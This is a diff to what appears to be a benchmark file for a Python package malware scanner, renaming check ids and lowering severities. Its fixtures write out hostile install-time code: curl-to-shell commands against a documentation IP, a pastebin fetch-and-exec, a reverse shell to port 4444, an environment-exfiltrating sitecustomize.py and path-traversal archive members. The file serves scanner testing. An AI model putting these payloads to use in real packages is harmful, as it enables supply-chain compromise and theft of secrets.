@@ -23,27 +23,28 @@ from analysis.artifact import ArtifactRef
 from analysis.model import ReleaseMetadata, Severity
 from bench.sample_archives import Files, Link, Raw, build_sdist, build_wheel
 
-# The check ids the samples expect, one place to follow the names analysis/code and
-# analysis/archive settle on.
+# The check ids the samples expect, in one place (analysis/checks.py defines them). Several
+# shapes share one check: curl | sh and fetch-then-run are both code.download-exec.
 DECODE_EXEC = "code.decode-exec"  # exec/eval of base64/zlib/marshal/hex/rot13 output
-INSTALL_HOOK = "code.install-hook"  # setup.py cmdclass overriding install/develop/egg_info
-SHELL_DOWNLOAD = "code.shell-download"  # curl/wget piped to a shell
+INSTALL_HOOK = "code.cmdclass-override"  # setup.py cmdclass (info alone: context for the rest)
+SHELL_DOWNLOAD = "code.download-exec"  # curl/wget piped to a shell
 EXFIL = "code.exfiltration"  # environment, host or credentials sent over the network
-SUSPICIOUS_HOST = "code.suspicious-host"  # Discord/Telegram/ngrok/pastebin/raw IP endpoints
-CREDENTIALS = "code.credential-read"  # ~/.aws, ~/.ssh, browser Login Data, wallets
-PTH_EXEC = "code.pth-exec"  # executable line in a .pth file
+SUSPICIOUS_HOST = "code.shady-url"  # Discord/Telegram/ngrok/pastebin/raw IP endpoints
+CREDENTIALS = "code.credential-access"  # ~/.aws, ~/.ssh, browser Login Data, Discord tokens
+PTH_EXEC = "code.startup-hook"  # executable line in a .pth file, sitecustomize.py
 DOWNLOAD_EXEC = "code.download-exec"  # fetch, write, chmod, run
-POWERSHELL = "code.powershell-encoded"
+POWERSHELL = "code.process-spawn"  # a command that fetches or hides code (-EncodedCommand)
 OBFUSCATION = "code.obfuscation"  # chr()-joins, getattr(__builtins__, ...), string-built names
-PACKED = "code.packed"  # PyArmor-like runtime stubs
-UNICODE = "code.bidi-unicode"  # bidi controls or invisible characters in source
-UNPARSABLE = "code.unparsable"  # install-time code that ast cannot read (scanned as text)
-NATIVE_IN_PURE = "archive.native-binary"  # ELF/PE/Mach-O inside a py3-none-any wheel
-SHADOW_ENTRY = "code.shadowing-entry-point"  # console script named pip, git, python, ...
-BUILD_BACKEND = "code.in-tree-backend"  # backend-path build backend doing I/O
-DEPENDENCY_MISMATCH = "code.undeclared-dependency"  # archive requires what the JSON does not list
-ZIP_BOMB = "archive.ratio"
+PACKED = "code.obfuscation"  # PyArmor-like runtime stubs with an opaque blob
+UNICODE = "code.invisible-unicode"  # bidi controls or invisible characters in source
+UNPARSABLE = "code.decode-exec"  # Python 2 setup.py: ast fails, the line scan still sees it
+NATIVE_IN_PURE = "archive.bundled-binary"  # ELF/PE/Mach-O inside a py3-none-any wheel
+SHADOW_ENTRY = "code.command-shadow"  # console script named pip, git, python, ...
+BUILD_BACKEND = "code.build-backend"  # backend-path build backend
+DEPENDENCY_MISMATCH = "archive.metadata-mismatch"  # archive requires what the JSON does not list
+ZIP_BOMB = "archive.bomb"
 TRAVERSAL = "archive.path-traversal"
+ABSOLUTE = "archive.absolute-path"
 LINK = "archive.link"
 
 HOST = "203.0.113.7"
@@ -124,7 +125,7 @@ _add("cmdclass-curl-sh", "brambleforge", "cmdclass install runs curl | sh",
          "        install.run(self)\n"
          f"        os.system('curl -fsSL http://{HOST}/init.sh | sh')\n\n"
          "setup(name='brambleforge', version='0.1.0', cmdclass={'install': PostInstall})\n"}),
-     (INSTALL_HOOK, SHELL_DOWNLOAD), Severity.CRITICAL)  # fmt: skip
+     (INSTALL_HOOK, SHELL_DOWNLOAD), Severity.HIGH)  # fmt: skip
 
 _add("cmdclass-wget-bash-develop", "tindalux", "cmdclass develop runs wget -O- | bash via subprocess",
      _sd("tindalux", {"setup.py":
@@ -184,13 +185,13 @@ _add("pth-decode-exec", "fernwick-hooks", ".pth import line that decodes and exe
      _wh("fernwick-hooks", {
          "fernwick_hooks/__init__.py": "",
          "fernwick_hooks-init.pth": f"import base64;exec(base64.b64decode('{PRINT_1_B64}'))\n"}),
-     (PTH_EXEC, DECODE_EXEC), Severity.CRITICAL)  # fmt: skip
+     (PTH_EXEC, DECODE_EXEC), Severity.HIGH)  # fmt: skip
 
 _add("pth-os-system", "dovecrest", ".pth import line running a shell command",
      _wh("dovecrest", {
          "dovecrest/__init__.py": "",
          "dovecrest.pth": f"import os; os.system('curl -s http://{HOST}/p | sh')\n"}),
-     (PTH_EXEC,), Severity.CRITICAL)  # fmt: skip
+     (PTH_EXEC,), Severity.HIGH)  # fmt: skip
 
 # ---------------------------------------------------------------- download, write, run
 
@@ -225,7 +226,7 @@ _add("fetch-pastebin-exec", "noctilume", "exec(urlopen('https://pastebin.com/raw
      _sd("noctilume", {"setup.py": _setup(
          "from urllib.request import urlopen\nexec(urlopen('https://pastebin.com/raw/xY12AbCd').read())\n",
          "noctilume")}),
-     (DOWNLOAD_EXEC, SUSPICIOUS_HOST), Severity.CRITICAL)  # fmt: skip
+     (DOWNLOAD_EXEC, SUSPICIOUS_HOST), Severity.HIGH)  # fmt: skip
 
 # ---------------------------------------------------------------- credentials and hosts
 
@@ -273,7 +274,7 @@ _add("raw-ip-reverse-shell", "emberquay", "socket to a raw IP with the shell on 
          f"    s = socket.socket(); s.connect(('{HOST}', 4444))\n"
          "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
          "    pty.spawn('/bin/sh')\n\n\nif os.fork() == 0:\n    _connect()\n", "emberquay")}),
-     (SUSPICIOUS_HOST,), Severity.CRITICAL)  # fmt: skip
+     (SUSPICIOUS_HOST,), Severity.HIGH)  # fmt: skip
 
 _add("discord-token-grab", "velvetroost", "reads Discord leveldb tokens and posts to a webhook",
      _wh("velvetroost", {"velvetroost/__init__.py":
@@ -377,7 +378,7 @@ _add("sitecustomize-wheel", "corbelhaus", "wheel ships a top-level sitecustomize
          "corbelhaus/__init__.py": "",
          "sitecustomize.py": "import os, urllib.request\n"
              "urllib.request.urlopen('https://hooks.example.invalid/s', data=repr(dict(os.environ)).encode())\n"}),
-     (EXFIL,))  # fmt: skip
+     (PTH_EXEC, EXFIL))  # fmt: skip
 
 # ---------------------------------------------------------------- build backends and metadata
 
@@ -411,7 +412,7 @@ _add("tar-path-traversal", "ridgeback-io", "sdist member ../../../../tmp/...",
 _add("tar-absolute-path", "ashgrove-cfg", "sdist member with an absolute path",
      _sd("ashgrove-cfg", {"setup.py": _setup("", "ashgrove-cfg")},
          raw=(Raw("/etc/cron.d/ashgrove", b"* * * * * root true\n"),)),
-     (TRAVERSAL,))  # fmt: skip
+     (ABSOLUTE,))  # fmt: skip
 
 _add("zip-path-traversal", "morrowbend", "wheel member ../../morrowbend.pth",
      _wh("morrowbend", {"morrowbend/__init__.py": ""},
